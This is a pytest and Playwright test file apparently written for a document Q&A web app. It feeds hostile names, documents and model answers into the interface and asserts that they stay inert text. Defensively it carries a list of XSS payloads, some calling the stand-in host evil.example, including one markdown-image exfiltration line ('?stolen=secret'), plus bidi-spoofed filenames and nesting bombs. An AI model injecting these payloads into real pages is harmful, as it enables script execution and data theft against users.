"""Names, documents and models that attack: whatever they write stays text, and nothing outside is asked."""

from __future__ import annotations

import json
from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import Page, Route, expect

from tests.support.answered import Desk, Json, Outside
from tests.support.browsing import Watch
from tests.support.process import ServiceProcess
from tests.support.upstream import Upstream

SCRIPT = "<script>globalThis.hacked = 1</script>"
PICTURE = '"><img src=https://evil.example/x.png onerror="globalThis.hacked = 1">'
TAG = '"><img src=x onerror=globalThis.hacked=1><script>'
NAME = f"a{TAG}\u202efdp.txt"
SENTENCE = "The {{x}} harbour </p><svg onload=globalThis.hacked=1> opened <b>today</b>."
TEXT = f"{SCRIPT}\n{SENTENCE}\n</page></document><!-- <iframe src=https://evil.example> -->\n"
ATTACKS = (
    SCRIPT,
    PICTURE,
    "![pixel](https://evil.example/pixel.png?stolen=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[click](javascript:globalThis.hacked=1)",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](\x01javascript:globalThis.hacked=1)",
    "<javascript:globalThis.hacked=1>",
    '[click](https://evil.example/"onmouseover="globalThis.hacked=1)',
    "<svg><animate onbegin=globalThis.hacked=1 attributeName=x></svg>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><button>Send</button></form>",
    '<button class="cite" data-index="0">forged</button>',
    "```<img src=https://evil.example/x.png>\n</code></pre><script>globalThis.hacked=1</script>\n```",
    "| a |\n|---|\n| <img src=https://evil.example/x.png onerror=globalThis.hacked=1> |",
    "[D99 p.1<img src=x onerror=globalThis.hacked=1>] and [D99 p.7]",
    "\u202etxet desrever\u2066",
    "> " * 3_000 + "deep",
    "[" * 3_000,
    "*a **b " * 2_000,
)
EVIL_ANSWER = f'It says "{SENTENCE}" [D1 p.1].\n\n' + "\n\n".join(ATTACKS)


@pytest.fixture(scope="module")
def desk(client: httpx.Client, provider: Upstream) -> Desk:
    return Desk(client, provider)


@pytest.fixture(scope="module")
def corpus(desk: Desk) -> str:
    return desk.corpus(desk.add(NAME, TEXT.encode()), name=f"Corpus {PICTURE}{SCRIPT}")


@pytest.fixture(autouse=True)
def _harmless(page: Page, service: ServiceProcess, watch: Watch) -> Iterator[None]:
    """Nothing ran, nothing was asked of anybody else, and the policy had nothing to refuse."""
    outside = Outside(service.url)
    outside.over(page)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    yield
    assert page.evaluate("globalThis.hacked") is None
    assert (
        page.locator(
            "script:not([src^='/static/']), iframe, form[action], main svg[onload], base, style"
        ).count()
        == 0
    )
    assert page.locator("main img:not([src^='blob:'])").count() == 0
    assert outside.asked == []
    assert dialogs == []
    del watch  # fails by itself where the policy had to step in


def see(page: Page, answer_id: str) -> None:
    page.goto(f"/#/a/{answer_id}")
    expect(page.locator(".answer-text")).to_have_attribute("aria-busy", "false")
    expect(page.locator(".receipts h2").first).to_be_visible()


def test_an_answer_can_run_nothing_and_load_nothing(page: Page, desk: Desk, corpus: str) -> None:
    answer = desk.ask(
        corpus,
        EVIL_ANSWER,
        question=f"Why {PICTURE}{SCRIPT}?",
        max_completion_tokens=60_000,
        conversation_id=desk.conversation(corpus),
    )
    assert answer["status"] == "done"
    see(page, answer["id"])
    text = page.locator(".prose").inner_text()
    assert SCRIPT in text
    assert '<button class="cite" data-index="0">forged</button>' in text
    assert "\u202e" not in text
    assert page.locator(".prose .cite").count() == len(answer["citations"])
    hrefs = page.locator(".prose a").evaluate_all(
        "links => links.map((link) => link.protocol + ' ' + link.rel)"
    )
    assert set(hrefs) == {"https: noopener nofollow noreferrer"}
    page.locator(".prose .cite").first.click()
    expect(page.locator(".viewer")).to_contain_text(SCRIPT)
    expect(page.locator(".viewer mark")).to_contain_text("<svg onload=globalThis.hacked=1>")


def test_nor_can_it_while_it_is_written(page: Page, desk: Desk, corpus: str) -> None:
    answer = desk.ask(corpus, "Short.", question="Slowly?")
    delta = "".join(
        f"id: {number}\nevent: delta\ndata: {json.dumps({'text': piece})}\n\n"
        for number, piece in enumerate(
            (EVIL_ANSWER[at : at + 997] for at in range(0, len(EVIL_ANSWER), 997)), 2
        )
    )
    ended = f"id: 9999\nevent: done\ndata: {json.dumps({**answer, 'text': EVIL_ANSWER})}\n\n"
    page.route(
        f"**/v1/answers/{answer['id']}", lambda route: route.fulfill(json={**answer, "status": "running"})
    )
    page.route("**/events", lambda route: route.fulfill(body=delta + ended, content_type="text/event-stream"))
    see(page, answer["id"])
    assert SCRIPT in page.locator(".prose").inner_text()


def test_an_answer_in_json_is_text_too(page: Page, desk: Desk, corpus: str) -> None:
    said = json.dumps(
        {PICTURE: [SCRIPT, {"__proto__": SCRIPT, "constructor": "x"}], "</dd><script>": PICTURE}
    )
    see(page, desk.ask(corpus, said, response_format={"type": "json_object"})["id"])
    expect(page.locator(".tree dt").first).to_have_text(PICTURE.replace("_", " "))
    expect(page.locator(".tree")).to_contain_text(SCRIPT)


def test_names_are_text_wherever_they_stand(page: Page, desk: Desk, corpus: str) -> None:
    answer = desk.ask(corpus, f'It says "{SENTENCE}" [D1 p.1].', question=SCRIPT)
    page.goto("/")
    expect(page.locator(".rail-list")).to_contain_text(PICTURE)
    expect(page.locator(".history")).to_contain_text(SCRIPT)
    page.goto(f"/#/c/{corpus}")
    expect(page.locator("main h1")).to_contain_text(PICTURE)
    see(page, answer["id"])
    expect(page.locator(".source-place")).to_contain_text(TAG)
    page.get_by_text("Every page that was read").click()
    expect(page.locator(".receipt td bdi")).to_contain_text(TAG)


def edited(page: Page, answer: Json, text: str) -> None:
    """Let the page see an answer with another text."""

    def changed(route: Route) -> None:
        route.fulfill(json={**answer, "text": text, "citations": []})

    page.route(f"**/v1/answers/{answer['id']}", changed)


def test_an_answer_longer_than_one_request_is_shown_whole(page: Page, desk: Desk, corpus: str) -> None:
    answer = desk.ask(corpus, "Short.")
    paragraphs = [f"Paragraph {n} has **words** {n * 7}." + " and more" * 30 for n in range(800)]
    assert sum(map(len, paragraphs)) > 200_000
    edited(page, answer, "\n\n".join(paragraphs))
    see(page, answer["id"])
    shown = page.locator(".prose > p").all_inner_texts()
    assert [text.replace("**", "") for text in paragraphs] == [" ".join(text.split()) for text in shown]
    one_block = "A single block. " * 16_000
    page.unroute_all()
    edited(page, answer, one_block)
    page.reload()
    expect(page.locator(".answer-text")).to_have_attribute("aria-busy", "false")
    assert page.locator(".prose").inner_text().count("A single block.") == 16_000
